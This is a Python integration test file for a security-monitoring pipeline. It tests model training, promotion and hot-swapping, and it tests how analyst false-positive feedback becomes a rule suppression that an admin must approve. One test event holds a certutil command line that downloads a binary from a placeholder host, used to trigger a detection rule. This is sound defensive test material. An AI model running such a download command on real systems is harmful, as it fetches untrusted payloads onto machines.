"""Continuous learning: train → register → promote (or not) → a running analyzer hot-swaps; feedback →
rule suppression the rules tier honours."""

from __future__ import annotations

import time
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import create_engine
from sqlalchemy.orm import Session

from secustream.analyzer.detection import Detection
from secustream.analyzer.native import RulesEngine, RuleSet
from secustream.analyzer.native.suppressions import SuppressionIndex, sync_from_feedback
from secustream.config import Settings
from secustream.events import SecurityEvent
from secustream.generator import EventGenerator
from secustream.generator.runner import produce_generated
from secustream.messaging.client import TrackedProducer, producer_config
from secustream.state import MemoryState
from secustream.storage import feedback as feedback_store
from secustream.storage import registry
from secustream.storage.repository import AnalyzedEvent, VerdictRepository
from secustream.storage.tables import Feedback, RuleSuppression, User
from secustream.training.classifier import TrainConfig
from secustream.training.pipeline import TrainPlan, run_training

from .pipeline_helpers import make_settings, rows, running_worker, wait_for

pytestmark = pytest.mark.integration


def _plan(**train: object) -> TrainPlan:
    cfg = TrainConfig(arch="tiny", epochs=6, batch_size=32, lr=5e-3, max_length=48, progress=False, device="cpu")
    for k, v in train.items():
        setattr(cfg, k, v)
    return TrainPlan(seed=21, events=3000, held_out_events=1500, attack_ratio=0.3, train=cfg)


def test_train_registers_promotes_rejects_worse_and_running_analyzer_swaps(
        kafka_bootstrap, topics, pg_url, redis_url, tmp_path: Path):
    engine = create_engine(pg_url)
    model_dir = tmp_path / "models"
    first = run_training(_plan(), engine, model_dir)
    print(first.summary())
    assert first.candidate.macro_f1 > first.baseline.macro_f1 + 0.2, first.summary()
    assert first.promoted and first.version == 1
    assert (first.artifact / "secustream-model.json").is_file()
    active = registry.active(engine, registry.CLASSIFIER)
    assert active is not None and active.version == 1
    assert active.metrics["macro_f1"] == pytest.approx(first.candidate.macro_f1)
    assert Path(active.artifact_path).is_relative_to(model_dir)

    # a candidate that barely trained (one optimiser step) must not replace the active version
    worse = run_training(_plan(epochs=1, max_seconds=0.001), engine, model_dir)
    print(worse.summary())
    assert not worse.promoted and worse.version == 2
    assert worse.active_before is not None and worse.candidate.macro_f1 < worse.active_before.macro_f1
    assert registry.active(engine, registry.CLASSIFIER).version == 1  # type: ignore[union-attr]
    assert [v.version for v in registry.versions(engine, registry.CLASSIFIER)] == [1, 2]

    # a running analyzer (model tier on) picks up whatever version becomes active, without restart
    settings = make_settings(kafka_bootstrap, topics, pg_url, redis_url, MODEL_DIR=str(model_dir),
                             MODEL_RELOAD_SECONDS=0.3, MODEL_DEVICE="cpu")
    producer = TrackedProducer(producer_config(kafka_bootstrap, "test"))
    gen = EventGenerator(seed=5, attack_ratio=0.0, start=datetime(2026, 5, 1, tzinfo=UTC))
    with running_worker(settings) as worker:
        produce_generated(gen.next_batch(200), producer, topics["events"])
        producer.flush_or_raise()
        wait_for(lambda: _model_reasons(pg_url, "v1") > 0, 90, "verdicts by model v1")
        assert _model_version(worker) == 1
        registry.promote(engine, registry.CLASSIFIER, 2)
        time.sleep(0.5)  # > MODEL_RELOAD_SECONDS: the next batch re-reads the registry
        produce_generated(gen.next_batch(200), producer, topics["events"])
        producer.flush_or_raise()
        wait_for(lambda: _model_reasons(pg_url, "v2") > 0, 60, "verdicts by model v2")
        assert _model_version(worker) == 2
    engine.dispose()


def _model_reasons(pg_url: str, version: str) -> int:
    """Verdicts the given model version gave its opinion on: decided by it, or, for an unsure threat claim
    nobody could review (the barely trained v2 claims exfiltration for everything), quoted beside the rules'
    verdict that stands."""
    found = rows(pg_url, "select count(*) from verdicts where reason like :p",
                 p=f"route rules>model: %threat-tiny {version}:%")
    return int(found[0][0])  # type: ignore[arg-type]


def _model_version(worker) -> int:  # type: ignore[no-untyped-def]
    model = worker.router.model
    assert model is not None, "the worker has no model tier"
    return int(model.source.version)


def test_false_positive_feedback_creates_a_suppression_the_rules_tier_honours(pg_url):
    engine = create_engine(pg_url)
    ruleset = RuleSet.load(Settings().rules_path)

    def certutil(ip: str) -> SecurityEvent:
        return SecurityEvent(event_type="process", action="process_start", outcome="success",
                             source={"ip": ip, "host": "WS-1001"},
                             process={"name": "certutil.exe",
                                      "command_line": "certutil.exe -urlcache -split -f http://x/a.bin a.bin"})

    detection = Detection([RulesEngine(ruleset, MemoryState())], "test")
    hit = certutil("10.20.0.7")
    [found] = detection.detect([hit], [hit.model_dump(mode="json")])
    verdict = found.verdict
    assert "PROC-CERTUTIL-DOWNLOAD" in verdict.rule_ids
    VerdictRepository(engine).store([AnalyzedEvent(hit, verdict)])
    with Session(engine) as s, s.begin():
        analyst = User(username="ana", hashed_password="x", role="analyst")
        s.add(analyst)
        s.flush()
        s.add(Feedback(event_id=hit.event_id, user_id=analyst.id, label="false_positive", note="IT admin script"))
        analyst_id = analyst.id

    assert sync_from_feedback(engine, ruleset) == 1
    assert sync_from_feedback(engine, ruleset) == 0  # idempotent
    with Session(engine) as s:
        [sup] = s.query(RuleSuppression).all()
        sup_id = sup.id
        assert (sup.rule_id, sup.field, sup.value, sup.source_event_id, sup.status) == \
            ("PROC-CERTUTIL-DOWNLOAD", "source.ip", "10.20.0.7", hit.event_id, "proposed")
        assert sup.expires_at is not None

    same, other = certutil("10.20.0.7"), certutil("10.20.0.99")
    # an analyst's false positive is a proposal: the rule still fires until an admin approves it
    proposed = Detection([RulesEngine(ruleset, MemoryState(), SuppressionIndex(engine))], "test")
    [v_proposed] = (d.verdict for d in proposed.detect([same], [same.model_dump(mode="json")]))
    assert "PROC-CERTUTIL-DOWNLOAD" in v_proposed.rule_ids
    with engine.begin() as conn:
        feedback_store.approve_suppression(conn, sup_id, analyst_id, {})

    suppressed = Detection([RulesEngine(ruleset, MemoryState(), SuppressionIndex(engine))], "test")
    v_same, v_other = (d.verdict for d in suppressed.detect(
        [same, other], [same.model_dump(mode="json"), other.model_dump(mode="json")]))
    assert v_same.rule_ids == []
    assert "PROC-CERTUTIL-DOWNLOAD" in v_other.rule_ids
    engine.dispose()
